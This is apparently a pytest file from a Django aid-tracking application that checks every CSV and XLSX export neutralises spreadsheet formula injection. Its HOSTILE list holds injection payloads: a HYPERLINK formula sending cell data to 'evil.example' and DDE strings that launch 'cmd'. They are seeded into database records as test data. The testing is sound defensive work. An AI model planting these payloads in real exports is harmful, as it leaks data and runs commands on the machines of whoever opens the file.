"""Formula injection (issue 8, finding 1): no exported cell may be read as a formula by a spreadsheet.
The walk covers every registered exporter in every format, and the web exports, with hostile data."""

import csv
import io

import pytest
from django.core.management import call_command

from parcours.assistance.tests.conftest import pay, returnee, schemes  # noqa: F401 - shared fixtures
from parcours.core.exports import EXPORTERS
from parcours.core.spreadsheets import csv_bytes, formula_like, safe_cell, unquote_cell, xlsx_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1"]


def _cells(data: bytes, fmt: str) -> list:
    if fmt == "xlsx":
        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(data))
        out = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (cell.coordinate, cell.value)
                    out.append(cell.value)
        return out
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def _assert_inert(cells: list, where: str) -> None:
    bad = [c for c in cells if isinstance(c, str) and formula_like(c)]
    assert not bad, f"{where}: formula-like cells {bad}"


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell_neutralises_and_reads_back(text):
    assert safe_cell(text) == "'" + text and not formula_like(safe_cell(text))
    assert unquote_cell(safe_cell(text)) == text
    assert safe_cell(-5) == -5 and safe_cell("Traoré") == "Traoré" and safe_cell(None) == ""
    assert safe_cell("'quoted") == "'quoted" and unquote_cell("'quoted") == "'quoted"


def test_xlsx_cells_are_text_never_formulas():
    data = xlsx_bytes({"s": (["h"], [[t] for t in HOSTILE] + [["ctrl\x01char"], [12]])})
    cells = _cells(data, "xlsx")
    _assert_inert(cells, "xlsx")
    assert cells[-1] == 12 and cells[-2] == "ctrlchar"
    _assert_inert(_cells(csv_bytes(["h"], [[t] for t in HOSTILE]), "csv"), "csv")


def test_the_name_cleaner_does_not_make_formulas():
    from parcours.people.validation import PersonInput

    for text in HOSTILE:
        form = PersonInput({"given_name": text, "family_name": "Traoré", "other_names": ""})
        assert not form.is_valid() and "given_name" in form.errors, text
        form = PersonInput({"family_name": "Traoré", "other_names": text})
        assert not form.is_valid() and "other_names" in form.errors, text
    form = PersonInput({"given_name": "  Awa\tMariam ", "family_name": "Traoré"})
    assert form.is_valid() and form.cleaned_data["given_name"] == "Awa Mariam"


@pytest.fixture
def hostile_world(world, make_person, returnee, pay):  # noqa: F811 - fixtures imported above
    """Hostile text everywhere an export can show it, written past the validators (old data, the ORM)."""
    from parcours.assistance.models import LedgerEntry
    from parcours.logframe.models import Indicator
    from parcours.logframe.services import logframe_load
    from parcours.people.models import Person

    logframe_load()
    people = []
    for i, text in enumerate(HOSTILE):
        p = returnee(given_name=f"Hostile{i}", phone="+22376000000")
        Person.objects.filter(pk=p.pk).update(given_name=text, family_name=text, other_names=text,
                                              id_document_number=text[:40])
        people.append(p)
    entry = pay(people[0], "business_kit", paid_on="2024-05-02")
    LedgerEntry.objects.filter(pk=entry.pk).update(proof_reference=HOSTILE[0])
    Indicator.objects.filter(pk=Indicator.objects.first().pk).update(label_fr=HOSTILE[1], label_en=HOSTILE[1],
                                                                      unit=HOSTILE[2])
    _hostile_flow_point(world, HOSTILE[3])
    _hostile_activity_and_complaint(world, HOSTILE[0])
    _hostile_stay(world, people[0], HOSTILE[4])
    return people


def _hostile_stay(world, person, text):
    """A stay whose entry point has a hostile name (stays export)."""
    import datetime as dt

    from parcours.accounts.models import Place
    from parcours.centres.demo import centres, load_demo_centres
    from parcours.centres.models import Stay

    load_demo_centres()
    gao = Place.objects.get(code="GAO")
    point = Place.objects.create(code="HOSTILE-EP", name=text, kind=Place.Kind.COMMUNE, parent=gao,
                                 path=gao.path + "HOSTILE-EP/")
    Stay.objects.create(centre=centres()["GAO-PC"], person=person, entered_on=dt.date(2024, 5, 2), entry_point=point,
                        admitted_by=world.user("centre.gao"))


def _hostile_activity_and_complaint(world, text):
    """A commune whose name is hostile, with an activity held in it and a complaint about it
    (activities and complaints exports)."""
    import datetime as dt

    from parcours.accounts.models import Place
    from parcours.feedback.models import Complaint
    from parcours.feedback.services import complaint_file
    from parcours.outreach.models import Activity
    from parcours.outreach.services import activity_record

    activity = activity_record(by=world.user("me.iom"), on=dt.date(2024, 5, 2), commune="Sikasso",
                               kind="proximity_talk", theme="free_movement", audience="community",
                               participants_male=3, participants_female=4)
    commune = Place.objects.create(code="X" + str(len(text)), name=text, kind=Place.Kind.COMMUNE,
                                   parent=activity.commune.parent, path=activity.commune.parent.path + "HOSTILE/")
    Activity.objects.filter(pk=activity.pk).update(commune=commune)
    complaint = complaint_file(by=world.user("me.iom"), channel="in_person", category="assistance", gravity="medium",
                               description="Le pécule n’a pas été versé.", place="Sikasso")
    Complaint.objects.filter(pk=complaint.pk).update(place=commune)


def _hostile_flow_point(world, text):
    """A flow monitoring point whose code and name are hostile, with one count (flows exports)."""
    import datetime as dt

    from parcours.accounts.models import Place
    from parcours.flows.models import Count, Point

    place = Place.objects.create(code=text, name=text, kind="fmp", path=f"/{text}/")
    point = Point.objects.create(place=place, code=text)
    Count.objects.create(point=point, day=dt.date(2024, 5, 2), direction="in", nationality="GN", sex="M",
                         age_group="18-59", transport="bus", reason="economic", count=3,
                         recorded_by=world.user("admin"))


@pytest.mark.django_db
def test_every_registered_exporter_neutralises_every_cell(hostile_world, tmp_path):
    assert {"people", "ledger", "indicators"} <= set(EXPORTERS)
    for name, exporter in EXPORTERS.items():
        for fmt in exporter.formats:
            out = tmp_path / f"{name}.{fmt}"
            call_command("export", name, "--as", "me.iom", "--format", fmt, "--out", str(out))
            data = out.read_bytes()
            cells = _cells(data, "xlsx" if fmt == "xlsx" else "csv")
            _assert_inert(cells, f"parcours export {name} --format {fmt}")
            assert any(isinstance(c, str) and c.startswith("'") for c in cells), f"{name} {fmt}: no hostile row"


@pytest.mark.django_db
def test_web_exports_neutralise_every_cell(hostile_world, web_client):
    client = web_client("me.iom")
    for url, fmt in [("/people/export/?format=csv", "csv"), ("/people/export/?format=xlsx", "xlsx"),
                     ("/assistance/ledger/export/", "csv"), ("/assistance/ledger/export/?format=xlsx", "xlsx"),
                     ("/sensitization/export/", "csv"), ("/sensitization/export/?format=xlsx", "xlsx"),
                     ("/complaints/register/export/", "csv"), ("/complaints/register/export/?format=xlsx", "xlsx")]:
        response = client.get(url)
        assert response.status_code == 200, url
        cells = _cells(response.content, fmt)
        _assert_inert(cells, url)
        assert "'" + HOSTILE[0] in cells, url


@pytest.mark.django_db
def test_an_exported_people_file_imports_back(hostile_world, world):
    from parcours.core.people_file import read_people_file

    data, _count = EXPORTERS["people"].run(by=world.user("me.iom"), fmt="csv")
    rows = dict(read_people_file(data, "people.csv"))
    assert {r["phone"] for r in rows.values()} == {"+22376000000"}
    assert {r["given_name"] for r in rows.values()} == set(HOSTILE)


def test_an_import_upload_is_refused_when_too_large_or_not_a_spreadsheet():
    from django import forms
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.utils import translation

    from parcours.core.spreadsheets import UPLOAD_MAX_BYTES, checked_upload

    ok = SimpleUploadedFile("sheet.xlsx", b"x")
    assert checked_upload(ok) is ok
    with translation.override("fr"):
        with pytest.raises(forms.ValidationError, match="dépasse 5 Mo"):
            checked_upload(SimpleUploadedFile("big.csv", b"x" * (UPLOAD_MAX_BYTES + 1)))
        with pytest.raises(forms.ValidationError, match="CSV ou XLSX"):
            checked_upload(SimpleUploadedFile("scan.pdf", b"x"))
